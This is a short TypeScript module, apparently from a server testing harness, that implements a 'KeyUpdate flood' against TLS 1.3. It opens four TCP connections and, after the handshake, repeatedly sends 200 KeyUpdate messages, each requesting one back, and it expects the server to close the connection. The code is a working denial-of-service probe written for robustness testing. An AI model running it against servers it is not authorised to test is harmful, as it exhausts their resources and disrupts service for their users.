// KeyUpdate messages of TLS 1.3 (RFC 8446 section 4.6.3), each of which asks for one in return: four derivations of keys each.

import type { Attack } from '../attack.ts'
import { attackConnections } from '../wire/connections.ts'
import { HostileTls13 } from '../wire/tls13.ts'

const UPDATES = 200

export const attack: Attack = {
  reference: 'KeyUpdate flood',
  does: 'sends KeyUpdate messages on 4 connections',
  who: ['unknown'],
  answers: [],
  must: ['closed'],
  run: (target, signal) =>
    attackConnections(target, signal, { connections: 4, transport: 'tcp' }, (wire) => {
      const tls = new HostileTls13(target.host)
      const pending: Buffer[] = [tls.hello]
      return {
        next() {
          const bytes = pending.shift()
          if (bytes !== undefined || !tls.isReady) return bytes
          return Buffer.concat(Array.from({ length: UPDATES }, () => tls.keyUpdate(true)))
        },
        receive(bytes) {
          const answer = tls.receive(bytes)
          if (answer === undefined) return
          pending.push(answer)
          wire.more()
        },
      }
    }),
}
